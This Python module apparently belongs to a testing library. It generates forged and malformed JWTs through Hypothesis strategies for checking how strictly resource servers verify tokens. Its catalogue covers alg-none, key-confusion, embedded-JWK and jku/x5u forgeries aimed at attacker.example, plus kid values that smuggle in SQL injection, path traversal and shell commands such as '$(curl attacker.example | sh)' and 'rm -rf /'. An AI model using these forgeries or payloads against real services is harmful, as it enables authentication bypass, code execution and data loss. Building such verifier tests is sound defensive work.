"""The hostile-token catalogue: every known way to forge or bend a JWT, as strategies.

Each strategy takes a legitimate access token and the key ring that signed it, and generates
the attack it names against them: the claims are the legitimate ones, usually escalated (more
scope, another subject, a longer life). Every value is a :class:`HostileToken` that says which
class of attack it is and which variant, so a finding names the attack.

A strict resource server (PyJWT with the algorithm pinned to the key, issuer and a single
audience checked, ``exp``/``nbf``/``iat`` required, plus the RFC 9068 profile: ``typ``, scope
shape, a maximum lifetime; see :func:`jitchaos.verify_access_token`) rejects every one. The
signatures are computed by hand, as an attacker would, so PyJWT's own guards never get in the
way of generating the attack.
"""

from __future__ import annotations

import base64
import binascii
import datetime
import functools
import hashlib
import hmac
import json
from collections.abc import Callable, Mapping
from typing import Any

import attrs
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec, padding, rsa
from cryptography.x509.oid import NameOID
from hypothesis import strategies as st

from jitchaos._keys import KeyRing, SigningKey
from jitchaos._tokens import fingerprint
from jitchaos.errors import InvalidArgument

__all__ = [
    "ATTACKS",
    "FORGERIES",
    "HostileToken",
    "alg_none_tokens",
    "audience_confusion_tokens",
    "edited_payload_tokens",
    "embedded_jwk_tokens",
    "header_oddity_tokens",
    "hostile_tokens",
    "jku_tokens",
    "key_confusion_tokens",
    "kid_injection_tokens",
    "scope_shape_tokens",
    "stripped_signature_tokens",
    "temporal_edge_tokens",
    "token_type_confusion_tokens",
    "weak_hmac_tokens",
]


@attrs.frozen
class HostileToken:
    """A forged or bent token, and what it is."""

    token: str = attrs.field(repr=False)
    """The token as a service would receive it (a Bearer value)."""
    attack: str
    """Its class in the catalogue (a key of :data:`ATTACKS`), e.g. ``"alg-none"``."""
    variant: str
    """Which form of the attack, in words, e.g. ``"alg='nOnE', signature absent"``."""
    served: Mapping[str, str] = attrs.field(factory=dict, repr=False)
    """What the attacker serves at URLs the token points to (``jku``/``x5u``), by URL."""
    required: bool = True
    """Whether the RFCs (7515, 7519, 6749, 9068) require every verifier to refuse it. False
    for what only the strict profile of :func:`~jitchaos.verify_access_token` refuses: an
    unknown or repeated scope, an ``iat`` in the future, an absurdly long life, an audience
    list that includes ours. A correct service may accept those, so the stateful machines
    do not submit them."""

    @property
    def finding(self) -> str:
        """Who could have made it, and so what accepting it means (one of
        :data:`jitchaos.FINDINGS`): ``forgery`` (no IdP key needed: anyone can),
        ``confusion`` (a real token of another kind, audience or issuer, or outside its
        validity: its holder can present it) or ``profile`` (IdP-signed, deviating from RFC
        9068: only the IdP could sign it)."""
        if self.attack in FORGERIES:
            return "forgery"
        if self.required and (self.attack, self.variant.split(" (")[0]) in _CONFUSIONS:
            return "confusion"
        return "profile"

    def _repr_pretty_(self, printer: Any, cycle: bool) -> None:
        # Hypothesis prints drawn values with this (it would list every attrs field).
        printer.text(repr(self))

    def __repr__(self) -> str:
        return (
            f"HostileToken(attack={self.attack!r}, variant={self.variant!r}, "
            f"fingerprint={fingerprint(self.token)!r})"
        )


FORGERIES = frozenset(
    {
        "alg-none",
        "stripped-signature",
        "edited-payload",
        "weak-hmac",
        "key-confusion",
        "embedded-jwk",
        "jku-x5u",
        "kid-injection",
    }
)
"""The attack classes made without the IdP's private keys: forgeries anyone can make."""

_CONFUSIONS = frozenset(
    {
        ("token-type-confusion", "ID token"),
        ("token-type-confusion", "ID token with the access token's scope"),
        ("token-type-confusion", "refresh token"),
        ("token-type-confusion", "refresh token typed as JWT"),
        ("audience-issuer-confusion", "another audience"),  # another API's token
        ("audience-issuer-confusion", "another tenant's issuer"),  # one IdP, many tenants
        ("temporal-edge", "exp in the past"),  # an old token its holder kept
        ("temporal-edge", "nbf in the future"),  # a token issued for later
    }
)
"""IdP-signed variants that are real tokens of another kind, audience or issuer, or outside
their validity: their holder can present them. Every other IdP-signed variant deviates from
the RFC 9068 profile in a way only the IdP itself could sign."""


# Building blocks: JOSE by hand.


def _b64(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()


def _segment(value: object) -> str:
    return _b64(json.dumps(value, separators=(",", ":")).encode())


def _unb64(segment: str) -> bytes:
    return base64.urlsafe_b64decode(segment + "=" * (-len(segment) % 4))


_HASHES = {"256": hashlib.sha256, "384": hashlib.sha384, "512": hashlib.sha512}


def _hmac_token(algorithm: str, secret: bytes, header: dict[str, Any], claims: object) -> str:
    signing_input = f"{_segment(header)}.{_segment(claims)}"
    digest = hmac.new(secret, signing_input.encode(), _HASHES[algorithm[2:]]).digest()
    return f"{signing_input}.{_b64(digest)}"


def _signed(key: rsa.RSAPrivateKey, header: dict[str, Any], claims: object) -> str:
    signing_input = f"{_segment(header)}.{_segment(claims)}"
    signature = key.sign(signing_input.encode(), padding.PKCS1v15(), hashes.SHA256())
    return f"{signing_input}.{_b64(signature)}"


def _with_legit_key(key: SigningKey, header: dict[str, Any], claims: object) -> str:
    import jwt

    header = {"alg": key.algorithm, **header}
    algorithm = jwt.get_algorithm_by_name(key.algorithm)
    signing_input = f"{_segment(header)}.{_segment(claims)}"
    return f"{signing_input}.{_b64(algorithm.sign(signing_input.encode(), key.private_key))}"


@functools.cache
def _attacker() -> rsa.RSAPrivateKey:
    # The attacker's own key: one per process, never one per example.
    return rsa.generate_private_key(public_exponent=65537, key_size=2048)


@functools.cache
def _attacker_jwk() -> dict[str, str]:
    import jwt

    jwk: dict[str, str] = json.loads(jwt.algorithms.RSAAlgorithm.to_jwk(_attacker().public_key()))
    jwk.update(kid="attacker", alg="RS256", use="sig")
    return jwk


def _warm_up_certificates() -> None:
    """Build one throwaway certificate now, at import.

    cryptography's Rust core remembers the ``datetime`` type the first time it builds a
    certificate; if that first time is under freezegun (a test freezing the clock while
    drawing jku/x5u tokens), it remembers freezegun's class and refuses real datetimes for
    the rest of the process (trustme, anything else that makes certificates).
    """
    key = ec.generate_private_key(ec.SECP256R1())
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "warm-up")])
    when = datetime.datetime(2020, 1, 1, tzinfo=datetime.UTC)
    x509.CertificateBuilder().subject_name(name).issuer_name(name).public_key(
        key.public_key()
    ).serial_number(1).not_valid_before(when).not_valid_after(
        when + datetime.timedelta(days=1)
    ).sign(key, hashes.SHA256())


_warm_up_certificates()


@functools.cache
def _attacker_certificate() -> str:
    key = _attacker()
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "attacker.example")])
    now = datetime.datetime(2020, 1, 1, tzinfo=datetime.UTC)
    certificate = (
        x509.CertificateBuilder()
        .subject_name(name)
        .issuer_name(name)
        .public_key(key.public_key())
        .serial_number(1)
        .not_valid_before(now)
        .not_valid_after(now + datetime.timedelta(days=36500))
        .sign(key, hashes.SHA256())
    )
    return certificate.public_bytes(serialization.Encoding.PEM).decode()


@attrs.frozen
class _Legit:
    """What the strategies know of the legitimate token."""

    header: dict[str, Any]
    claims: dict[str, Any]
    segments: tuple[str, str, str]
    key: SigningKey


def _legit(legitimate: object, keys: object) -> _Legit:
    if not isinstance(keys, KeyRing):
        raise InvalidArgument(f"keys={keys!r} must be the KeyRing that signed the token")
    if not isinstance(legitimate, str) or legitimate.count(".") != 2:
        raise InvalidArgument("legitimate must be a compact JWT (three dot-separated parts)")
    parts = legitimate.split(".")
    try:
        header, claims = json.loads(_unb64(parts[0])), json.loads(_unb64(parts[1]))
    except (ValueError, binascii.Error) as error:
        raise InvalidArgument(f"legitimate is not a JWT: {error}") from None
    if not isinstance(header, dict) or not isinstance(claims, dict):
        raise InvalidArgument("legitimate must carry a JSON object header and claims")
    key = keys.get(header.get("kid", "")) if isinstance(header.get("kid"), str) else None
    if key is None:
        raise InvalidArgument("legitimate was not signed by a key of keys (its kid is unknown)")
    return _Legit(header, claims, (parts[0], parts[1], parts[2]), key)


def _escalations(claims: dict[str, Any]) -> st.SearchStrategy[tuple[str, dict[str, Any]]]:
    """Ways to make the claims worth forging: more scope, another subject, a longer life."""
    scope = str(claims.get("scope", ""))
    exp = claims.get("exp")
    options: list[tuple[str, dict[str, Any]]] = [
        ("scope + admin", {**claims, "scope": " ".join([*scope.split(), "admin"])}),
        ("sub = admin", {**claims, "sub": "admin"}),
    ]
    if isinstance(exp, int):
        options.append(("exp + 10 years", {**claims, "exp": exp + 315_360_000}))
    return st.sampled_from(options)


def _no_kid(header: dict[str, Any]) -> dict[str, Any]:
    return {k: v for k, v in header.items() if k != "kid"}


# The classes.


def alg_none_tokens(*, legitimate: str, keys: KeyRing) -> st.SearchStrategy[HostileToken]:
    """``alg: none`` in any casing, with an empty, absent or left-over signature.

    Shrinks towards ``alg: none``, an empty signature and the first escalation.
    """
    legit = _legit(legitimate, keys)

    @st.composite
    def build(draw: st.DrawFn) -> HostileToken:
        alg = draw(st.sampled_from(["none", "None", "NONE", "nOnE"]))
        ending = draw(st.sampled_from(["empty", "absent", "left over"]))
        what, claims = draw(_escalations(legit.claims))
        head = f"{_segment({**legit.header, 'alg': alg})}.{_segment(claims)}"
        token = {"empty": f"{head}.", "absent": head, "left over": f"{head}.{legit.segments[2]}"}
        return HostileToken(token[ending], "alg-none", f"alg={alg!r}, signature {ending}, {what}")

    return build()


def stripped_signature_tokens(
    *, legitimate: str, keys: KeyRing
) -> st.SearchStrategy[HostileToken]:
    """The signature stripped, truncated, replaced by zero bytes or with one byte flipped, over
    the legitimate or an escalated payload.

    Shrinks towards a stripped signature over the legitimate payload.
    """
    legit = _legit(legitimate, keys)
    signature = _unb64(legit.segments[2])

    @st.composite
    def build(draw: st.DrawFn) -> HostileToken:
        form = draw(st.sampled_from(["stripped", "truncated", "zero bytes", "one byte flipped"]))
        escalate = draw(st.booleans())
        what, claims = (
            draw(_escalations(legit.claims)) if escalate else ("as issued", legit.claims)
        )
        payload = _segment(claims) if escalate else legit.segments[1]
        if form == "stripped":
            forged = ""
        elif form == "truncated":
            forged = _b64(signature[: draw(st.integers(1, len(signature) - 1))])
        elif form == "zero bytes":
            forged = _b64(bytes(len(signature)))
        else:
            at = draw(st.integers(0, len(signature) - 1))
            forged = _b64(signature[:at] + bytes([signature[at] ^ 1]) + signature[at + 1 :])
        return HostileToken(
            f"{legit.segments[0]}.{payload}.{forged}", "stripped-signature", f"{form}, {what}"
        )

    return build()


def edited_payload_tokens(*, legitimate: str, keys: KeyRing) -> st.SearchStrategy[HostileToken]:
    """An escalated payload under the legitimate header and signature.

    Shrinks towards the first escalation (scope + admin).
    """
    legit = _legit(legitimate, keys)
    return _escalations(legit.claims).map(
        lambda edit: HostileToken(
            f"{legit.segments[0]}.{_segment(edit[1])}.{legit.segments[2]}",
            "edited-payload",
            f"{edit[0]} under the original signature",
        )
    )


WEAK_SECRETS = (
    "",
    "secret",
    "password",
    "changeme",
    "jwt",
    "key",
    "123456",
    "your-256-bit-secret",
    "test",
)


def weak_hmac_tokens(*, legitimate: str, keys: KeyRing) -> st.SearchStrategy[HostileToken]:
    """HS256/384/512 signatures with an empty or dictionary secret over escalated claims.

    Shrinks towards HS256 with the empty secret.
    """
    legit = _legit(legitimate, keys)

    @st.composite
    def build(draw: st.DrawFn) -> HostileToken:
        alg = draw(st.sampled_from(["HS256", "HS384", "HS512"]))
        secret = draw(st.sampled_from(WEAK_SECRETS))
        what, claims = draw(_escalations(legit.claims))
        header = {**legit.header, "alg": alg}
        return HostileToken(
            _hmac_token(alg, secret.encode(), header, claims),
            "weak-hmac",
            f"{alg} with secret {secret!r}, {what}",
        )

    return build()


def key_confusion_tokens(*, legitimate: str, keys: KeyRing) -> st.SearchStrategy[HostileToken]:
    """RS/HS confusion: HMAC signatures whose secret is the issuer's public key, as PEM
    (SubjectPublicKeyInfo or PKCS#1, with or without the final newline), DER or JWK JSON.

    Shrinks towards HS256 with the PEM of the public key.
    """
    legit = _legit(legitimate, keys)
    public = legit.key.private_key.public_key()
    spki = public.public_bytes(
        serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo
    )
    forms: list[tuple[str, bytes]] = [
        ("public key PEM", spki),
        ("public key PEM without final newline", spki.rstrip(b"\n")),
        (
            "public key DER",
            public.public_bytes(
                serialization.Encoding.DER, serialization.PublicFormat.SubjectPublicKeyInfo
            ),
        ),
        ("public JWK JSON", json.dumps(legit.key.public_jwk()).encode()),
        (
            "public JWK JSON, compact and sorted",
            json.dumps(legit.key.public_jwk(), separators=(",", ":"), sort_keys=True).encode(),
        ),
    ]
    if isinstance(public, rsa.RSAPublicKey):
        forms.append(
            (
                "public key PKCS#1 PEM",
                public.public_bytes(serialization.Encoding.PEM, serialization.PublicFormat.PKCS1),
            )
        )

    @st.composite
    def build(draw: st.DrawFn) -> HostileToken:
        alg = draw(st.sampled_from(["HS256", "HS384", "HS512"]))
        form, secret = draw(st.sampled_from(forms))
        what, claims = draw(_escalations(legit.claims))
        return HostileToken(
            _hmac_token(alg, secret, {**legit.header, "alg": alg}, claims),
            "key-confusion",
            f"{alg} keyed with the {form}, {what}",
        )

    return build()


def embedded_jwk_tokens(*, legitimate: str, keys: KeyRing) -> st.SearchStrategy[HostileToken]:
    """Signed with the attacker's key, which the header carries as ``jwk`` (CVE-2018-0114).

    Shrinks towards keeping the legitimate ``kid``.
    """
    legit = _legit(legitimate, keys)

    @st.composite
    def build(draw: st.DrawFn) -> HostileToken:
        kid = draw(st.sampled_from(["legitimate kid", "attacker kid", "no kid"]))
        what, claims = draw(_escalations(legit.claims))
        header: dict[str, Any] = {**_no_kid(legit.header), "alg": "RS256", "jwk": _attacker_jwk()}
        if kid == "legitimate kid":
            header["kid"] = legit.key.kid
        elif kid == "attacker kid":
            header["kid"] = "attacker"
        return HostileToken(
            _signed(_attacker(), header, claims), "embedded-jwk", f"jwk header, {kid}, {what}"
        )

    return build()


def jku_tokens(*, legitimate: str, keys: KeyRing) -> st.SearchStrategy[HostileToken]:
    """``jku`` or ``x5u`` pointing at a key set or certificate the attacker serves
    (:attr:`HostileToken.served` holds what is served there), signed with that key.

    Shrinks towards ``jku`` on a plainly foreign host.
    """
    legit = _legit(legitimate, keys)
    issuer = str(legit.claims.get("iss", "https://idp.example"))
    urls = [
        "https://attacker.example/jwks.json",
        f"{issuer.rstrip('/')}.attacker.example/jwks.json",
        f"{issuer.rstrip('/')}/../../attacker.example/jwks.json",
        f"https://attacker.example/redirect?to={issuer}/jwks",
    ]

    @st.composite
    def build(draw: st.DrawFn) -> HostileToken:
        parameter = draw(st.sampled_from(["jku", "x5u"]))
        url = draw(st.sampled_from(urls))
        what, claims = draw(_escalations(legit.claims))
        header = {**_no_kid(legit.header), "alg": "RS256", "kid": "attacker", parameter: url}
        body = (
            json.dumps({"keys": [_attacker_jwk()]})
            if parameter == "jku"
            else (_attacker_certificate())
        )
        return HostileToken(
            _signed(_attacker(), header, claims),
            "jku-x5u",
            f"{parameter}={url}, {what}",
            served={url: body},
        )

    return build()


SQL_SECRET = "attacker-secret"
"""The HMAC secret the SQL-injection kids make a naive key lookup return."""

_KID_INJECTIONS: list[tuple[str, str, str]] = [
    # (kid, how it is signed, what it targets)
    ("../../../../../../../dev/null", "hmac-empty", "path traversal to an empty file"),
    ("/dev/null", "hmac-empty", "absolute path to an empty file"),
    ("../../../../../../../../../../dev/null%00.pem", "hmac-empty", "traversal with a NUL suffix"),
    (f"x' UNION SELECT '{SQL_SECRET}' --", "hmac-sql", "SQL injection choosing the secret"),
    (f"' OR 1=1 UNION SELECT '{SQL_SECRET}' ORDER BY 1 DESC --", "hmac-sql", "SQL tautology"),
    ("", "attacker", "empty kid"),
    ("$(curl attacker.example | sh)", "attacker", "shell command substitution"),
    ("`id`", "attacker", "shell backticks"),
    ("key.pem; rm -rf /", "attacker", "shell command separator"),
    ("| cat /etc/passwd", "attacker", "shell pipe"),
    ("unknown-kid", "attacker", "a kid nobody published"),
]


def kid_injection_tokens(*, legitimate: str, keys: KeyRing) -> st.SearchStrategy[HostileToken]:
    """``kid`` values that attack how a verifier finds its key: path traversal (to an empty
    file, so the HMAC secret is empty), SQL injection (a lookup that returns the attacker's
    secret), shell metacharacters, an empty or unknown kid.

    Shrinks towards path traversal to ``/dev/null``.
    """
    legit = _legit(legitimate, keys)

    @st.composite
    def build(draw: st.DrawFn) -> HostileToken:
        kid, signing, target = draw(st.sampled_from(_KID_INJECTIONS))
        what, claims = draw(_escalations(legit.claims))
        header = {**legit.header, "kid": kid}
        if signing == "hmac-empty":
            token = _hmac_token("HS256", b"", {**header, "alg": "HS256"}, claims)
        elif signing == "hmac-sql":
            token = _hmac_token("HS256", SQL_SECRET.encode(), {**header, "alg": "HS256"}, claims)
        else:
            token = _signed(_attacker(), {**header, "alg": "RS256"}, claims)
        return HostileToken(token, "kid-injection", f"kid={kid!r} ({target}), {what}")

    return build()


_PROFILE_ONLY = frozenset(
    {
        "absurdly long life",  # RFC 9068 sets no maximum lifetime
        "iat in the future",  # RFC 7519 §4.1.6: iat is information, not a condition
        "unknown scope",  # RFC 6749 §3.3: the IdP defines scopes; a server may ignore others
        "repeated scopes",  # the scope grammar allows a repeated scope-token
        "audience list with ours last",  # RFC 9068 §4: aud must *contain* the server's own
    }
)
"""Variants only the strict profile refuses (see :attr:`HostileToken.required`)."""


def temporal_edge_tokens(
    *, legitimate: str, keys: KeyRing, now: float | None = None, leeway: float = 0.0
) -> st.SearchStrategy[HostileToken]:
    """Validly signed tokens whose times are wrong at ``now`` (default: the legitimate token's
    ``iat``) for a verifier allowing ``leeway``: ``exp`` in the past or exactly at the leeway
    boundary, an absurdly long life, ``nbf`` or ``iat`` in the future, ``exp`` missing or not
    an integer.

    Shrinks towards ``exp`` one second in the past.
    """
    legit = _legit(legitimate, keys)
    iat = legit.claims.get("iat")
    if now is None:
        now = float(iat) if isinstance(iat, int | float) and not isinstance(iat, bool) else 0.0
    if isinstance(leeway, bool) or not isinstance(leeway, int | float) or leeway < 0:
        raise InvalidArgument(f"leeway={leeway!r} must be seconds >= 0")
    moment, slack = int(now), int(leeway)

    @st.composite
    def build(draw: st.DrawFn) -> HostileToken:
        claims = dict(legit.claims)
        edge = draw(
            st.sampled_from(
                [
                    "exp in the past",
                    "exp exactly at the leeway boundary",
                    "absurdly long life",
                    "nbf in the future",
                    "iat in the future",
                    "exp missing",
                    "exp not an integer",
                ]
            )
        )
        if edge == "exp in the past":
            claims["exp"] = moment - slack - draw(st.integers(1, 10**6))
            claims["iat"] = claims["nbf"] = claims["exp"] - 300
        elif edge == "exp exactly at the leeway boundary":
            claims["exp"] = moment - slack
            claims["iat"] = claims["nbf"] = claims["exp"] - 300
        elif edge == "absurdly long life":
            claims["exp"] = draw(st.sampled_from([moment + 10**9, 253_402_300_799, 2**53]))
            claims["iat"] = claims["nbf"] = moment
        elif edge in ("nbf in the future", "iat in the future"):
            name = edge.split()[0]
            claims[name] = moment + slack + draw(st.integers(1, 10**6))
            claims["exp"] = max(claims["exp"], claims[name] + 300)
        elif edge == "exp missing":
            del claims["exp"]
        else:
            claims["exp"] = draw(st.sampled_from(["never", "1e99", None, [moment + 300], True]))
        exp = claims.get("exp")
        when = (
            f"exp {exp - moment:+d} s from now"
            if isinstance(exp, int) and not isinstance(exp, bool)
            else f"exp={exp!r}"
        )
        return HostileToken(
            _with_legit_key(legit.key, _no_alg(legit.header), claims),
            "temporal-edge",
            f"{edge} ({when})",  # relative: a replay judges it on another clock
            required=edge not in _PROFILE_ONLY,
        )

    return build()


def _no_alg(header: dict[str, Any]) -> dict[str, Any]:
    return {k: v for k, v in header.items() if k != "alg"}


def audience_confusion_tokens(
    *, legitimate: str, keys: KeyRing
) -> st.SearchStrategy[HostileToken]:
    """Validly signed tokens meant for someone else: another audience, an audience list with
    ours last, the issuer with a trailing slash or in other case, another tenant's issuer.

    Shrinks towards another audience.
    """
    legit = _legit(legitimate, keys)
    ours = legit.claims.get("aud")
    issuer = str(legit.claims.get("iss", ""))
    variants: list[tuple[str, dict[str, Any]]] = [
        ("another audience", {"aud": "another-api"}),
        ("audience list with ours last", {"aud": ["another-api", ours]}),
        ("issuer with a trailing slash", {"iss": issuer + "/"}),
        ("issuer in other case", {"iss": issuer.upper()}),
        ("another tenant's issuer", {"iss": issuer.rstrip("/") + "/tenants/other"}),
        ("a look-alike issuer", {"iss": issuer.replace("://", "://login.", 1)}),
    ]
    return st.sampled_from(variants).map(
        lambda variant: HostileToken(
            _with_legit_key(legit.key, _no_alg(legit.header), {**legit.claims, **variant[1]}),
            "audience-issuer-confusion",
            variant[0],
            required=variant[0] not in _PROFILE_ONLY,
        )
    )


def token_type_confusion_tokens(
    *, legitimate: str, keys: KeyRing
) -> st.SearchStrategy[HostileToken]:
    """Validly signed tokens of another type presented as an access token: an OpenID Connect
    ID token (audience: the client) or a JWT refresh token (audience: the IdP itself).

    Shrinks towards the ID token.
    """
    legit = _legit(legitimate, keys)
    claims = legit.claims
    iat = claims.get("iat", 0)
    id_token = {
        "iss": claims.get("iss"),
        "sub": claims.get("sub"),
        "aud": claims.get("client_id", "client"),
        "iat": iat,
        "exp": claims.get("exp"),
        "auth_time": iat,
        "nonce": "n-0S6_WzA2Mj",
    }
    refresh = {
        **claims,
        "aud": claims.get("iss"),
        "typ": "Refresh",
        "exp": (iat if isinstance(iat, int) else 0) + 30 * 86400,
    }
    variants = [
        ("ID token", {"kid": legit.key.kid, "typ": "JWT"}, id_token),
        (
            "ID token with the access token's scope",
            {"kid": legit.key.kid, "typ": "JWT"},
            {**id_token, "scope": claims.get("scope", "")},
        ),
        ("refresh token", {"kid": legit.key.kid, "typ": "refresh+jwt"}, refresh),
        ("refresh token typed as JWT", {"kid": legit.key.kid, "typ": "JWT"}, refresh),
    ]
    return st.sampled_from(variants).map(
        lambda v: HostileToken(
            _with_legit_key(legit.key, v[1], v[2]), "token-type-confusion", v[0]
        )
    )


def scope_shape_tokens(*, legitimate: str, keys: KeyRing) -> st.SearchStrategy[HostileToken]:
    """Validly signed tokens whose ``scope`` is shaped to fool a parser: a JSON list, repeated
    scopes, wildcards and unknown scopes, other delimiters, an empty string.

    Shrinks towards the scope as a list.
    """
    legit = _legit(legitimate, keys)
    have = str(legit.claims.get("scope", "read")).split() or ["read"]
    variants: list[tuple[str, object]] = [
        ("scope as a JSON list", [*have, "admin"]),
        ("repeated scopes", " ".join([*have, *have])),
        ("wildcard scope", "*"),
        ("prefix wildcard", " ".join(f"{name}:*" for name in have)),
        ("unknown scope", " ".join([*have, "superuser"])),
        ("comma-delimited", ",".join([*have, "admin"])),
        ("double space", "  ".join([*have, "admin"])),
        ("empty scope", ""),
        ("scope in other case", " ".join(name.upper() for name in [*have, "admin"])),
    ]
    return st.sampled_from(variants).map(
        lambda v: HostileToken(
            _with_legit_key(legit.key, _no_alg(legit.header), {**legit.claims, "scope": v[1]}),
            "scope-shape",
            f"{v[0]}: {v[1]!r}",
            required=v[0] not in _PROFILE_ONLY,
        )
    )


def header_oddity_tokens(*, legitimate: str, keys: KeyRing) -> st.SearchStrategy[HostileToken]:
    """Validly signed tokens with a header a strict verifier refuses: an unknown ``crit``
    extension, another ``typ``, a ``cty`` announcing a nested JWT, or the JWS in JSON
    serialization instead of compact form.

    Shrinks towards an unknown critical extension.
    """
    legit = _legit(legitimate, keys)
    header = _no_alg(legit.header)
    compact: list[tuple[str, dict[str, Any]]] = [
        ("unknown critical extension", {**header, "crit": ["x-jitchaos"], "x-jitchaos": True}),
        ("crit naming exp", {**header, "crit": ["exp"]}),
        ("typ JWT", {**header, "typ": "JWT"}),
        ("typ absent", {k: v for k, v in header.items() if k != "typ"}),
        ("typ of a DPoP proof", {**header, "typ": "dpop+jwt"}),
        ("cty JWT (nested)", {**header, "cty": "JWT"}),
    ]

    def build(choice: tuple[str, dict[str, Any]] | None) -> HostileToken:
        if choice is None:
            h, p, s = legit.segments
            flattened = json.dumps({"protected": h, "payload": p, "signature": s})
            return HostileToken(flattened, "header-oddity", "JSON serialization (flattened)")
        return HostileToken(
            _with_legit_key(legit.key, choice[1], legit.claims), "header-oddity", choice[0]
        )

    return st.one_of(st.sampled_from(compact), st.none()).map(build)


ATTACKS: Mapping[str, Callable[..., st.SearchStrategy[HostileToken]]] = {
    "alg-none": alg_none_tokens,
    "stripped-signature": stripped_signature_tokens,
    "edited-payload": edited_payload_tokens,
    "weak-hmac": weak_hmac_tokens,
    "key-confusion": key_confusion_tokens,
    "embedded-jwk": embedded_jwk_tokens,
    "jku-x5u": jku_tokens,
    "kid-injection": kid_injection_tokens,
    "temporal-edge": temporal_edge_tokens,
    "audience-issuer-confusion": audience_confusion_tokens,
    "token-type-confusion": token_type_confusion_tokens,
    "scope-shape": scope_shape_tokens,
    "header-oddity": header_oddity_tokens,
}
"""The closed catalogue: attack class -> the strategy that generates it."""


def hostile_tokens(
    *,
    legitimate: str,
    keys: KeyRing,
    attacks: st.SearchStrategy[str] | None = None,
    now: float | None = None,
    leeway: float = 0.0,
) -> st.SearchStrategy[HostileToken]:
    """Any attack of the catalogue against ``legitimate`` (signed by ``keys``), or only the
    classes ``attacks`` draws (keys of :data:`ATTACKS`). ``now`` and ``leeway`` are when and
    by how much the tokens will be judged (see :func:`temporal_edge_tokens`): a token whose
    ``nbf`` was in the future when it was forged may be valid by the time it is presented.

    Shrinks towards the first class (``alg-none``) and that class's simplest variant.
    """
    _legit(legitimate, keys)  # fail at definition time, naming the argument
    if attacks is not None and not isinstance(attacks, st.SearchStrategy):
        raise InvalidArgument(f"attacks={attacks!r} must be a strategy of attack names")
    names = attacks if attacks is not None else st.sampled_from(list(ATTACKS))

    def of(name: str) -> st.SearchStrategy[HostileToken]:
        if name not in ATTACKS:
            raise InvalidArgument(f"attacks drew {name!r}, not one of {', '.join(ATTACKS)}")
        if name == "temporal-edge":
            return temporal_edge_tokens(legitimate=legitimate, keys=keys, now=now, leeway=leeway)
        return ATTACKS[name](legitimate=legitimate, keys=keys)

    return names.flatmap(of)
